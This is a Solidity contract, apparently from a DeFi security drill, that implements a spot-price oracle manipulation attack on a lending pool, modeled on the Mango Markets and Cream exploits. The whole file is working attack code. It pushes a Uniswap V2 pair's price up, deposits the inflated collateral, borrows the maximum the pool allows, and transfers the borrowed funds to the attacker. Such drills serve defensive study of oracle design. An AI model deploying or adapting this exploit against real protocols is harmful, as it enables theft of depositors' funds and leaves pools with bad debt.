// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "../interfaces/IERC20.sol";
import {ILendingPool} from "../interfaces/ILendingPool.sol";
import {IPriceOracle} from "../interfaces/IPriceOracle.sol";
import {IUniswapV2Pair} from "../interfaces/IUniswapV2Pair.sol";
import {SafeTransferLib} from "../libraries/SafeTransferLib.sol";

/// @title The spot-manipulation attacker of the drills (Mango Markets, Oct 2022; Cream, Oct 2021).
/// @notice In ONE transaction: buy the collateral asset with `baseIn` of the base token on its AMM
///         pair (the spot price of the asset jumps), deposit what was bought as collateral in the
///         lending pool, borrow as much base as the pool's oracle now allows, and leave with it.
///         Against a pool that prices collateral from the AMM spot (`amm_spot`), the deposit is
///         valued at the inflated price and the pool is left holding bad debt once the spot
///         reverts; against a guarded Chainlink oracle the borrow is limited to the honest value.
/// @dev The attacker's `baseIn` stands for a flash loan from another venue (repaid from the
///      borrowed base); it is pulled from the caller, which must have approved this contract.
contract SpotManipulator {
    address public immutable owner;

    error NotOwner(address caller);
    error ZeroAmount();
    error PairDoesNotTrade(address pair, address base, address asset);
    error NothingToBorrow(uint256 borrowLimitUsdWad, uint256 debtUsdWad);

    /// @notice One attack: base spent on the pair, asset bought and deposited, base borrowed (raw units).
    event Attack(
        address indexed pool, address indexed pair, uint256 baseInRaw, uint256 assetBoughtRaw, uint256 borrowedBaseRaw
    );

    constructor() {
        owner = msg.sender;
    }

    /// @notice Run the attack (owner only).
    /// @param pool the lending pool to borrow from
    /// @param pair the asset/base Uniswap-V2 pair whose spot is pushed up
    /// @param asset the collateral token bought and deposited
    /// @param baseInRaw base token raw units spent on the pair (pulled from the caller)
    /// @param borrowBaseRaw base raw units to borrow; 0 = the most the pool's prices allow
    /// @return borrowedRaw base raw units borrowed and sent to the caller
    function attack(address pool, address pair, address asset, uint256 baseInRaw, uint256 borrowBaseRaw)
        external
        returns (uint256 borrowedRaw)
    {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        if (baseInRaw == 0) revert ZeroAmount();
        address base = ILendingPool(pool).baseToken();
        uint256 assetBoughtRaw = _pushSpot(pair, base, asset, baseInRaw);

        // 2. Post the bought asset as collateral.
        SafeTransferLib.safeApprove(asset, pool, assetBoughtRaw);
        ILendingPool(pool).depositCollateral(asset, assetBoughtRaw);

        // 3. Borrow what the pool's (possibly manipulated) prices allow, and leave with it.
        borrowedRaw = borrowBaseRaw == 0 ? _maxBorrow(pool, base) : borrowBaseRaw;
        ILendingPool(pool).borrow(borrowedRaw);
        SafeTransferLib.safeTransfer(base, msg.sender, borrowedRaw);
        emit Attack(pool, pair, baseInRaw, assetBoughtRaw, borrowedRaw);
    }

    /// @dev 1. Buy `asset` with `baseInRaw` of the caller's base on `pair` (Uniswap V2 getAmountOut on
    ///      the current reserves, fee 0.3% on the input): the pair's spot price of the asset rises.
    function _pushSpot(address pair, address base, address asset, uint256 baseInRaw) internal returns (uint256 outRaw) {
        address token0 = IUniswapV2Pair(pair).token0();
        address token1 = IUniswapV2Pair(pair).token1();
        bool baseIs0 = token0 == base;
        if (!(baseIs0 ? token1 == asset : (token1 == base && token0 == asset))) {
            revert PairDoesNotTrade(pair, base, asset);
        }
        (uint112 r0, uint112 r1,) = IUniswapV2Pair(pair).getReserves();
        (uint256 reserveBase, uint256 reserveAsset) = baseIs0 ? (uint256(r0), uint256(r1)) : (uint256(r1), uint256(r0));
        uint256 inWithFee = baseInRaw * 997;
        outRaw = (inWithFee * reserveAsset) / (reserveBase * 1000 + inWithFee);
        SafeTransferLib.safeTransferFrom(base, msg.sender, pair, baseInRaw);
        IUniswapV2Pair(pair).swap(baseIs0 ? 0 : outRaw, baseIs0 ? outRaw : 0, address(this), "");
    }

    /// @dev Headroom under the borrow limit, in base raw units at the oracle's base price, rounded
    ///      down and capped by the pool's cash.
    function _maxBorrow(address pool, address base) internal returns (uint256) {
        (,, uint256 limitUsdWad,, uint256 debtUsdWad,) = ILendingPool(pool).accountData(address(this));
        if (limitUsdWad <= debtUsdWad) revert NothingToBorrow(limitUsdWad, debtUsdWad);
        uint256 basePriceWad = IPriceOracle(ILendingPool(pool).oracle()).getPrice(base);
        uint256 amount = ((limitUsdWad - debtUsdWad) * (10 ** IERC20(base).decimals())) / basePriceWad;
        amount = amount > 0 ? amount - 1 : 0; // one unit of margin against the pool's rounding up of debt
        uint256 cash = ILendingPool(pool).cash();
        if (amount > cash) amount = cash;
        if (amount == 0) revert NothingToBorrow(limitUsdWad, debtUsdWad);
        return amount;
    }
}
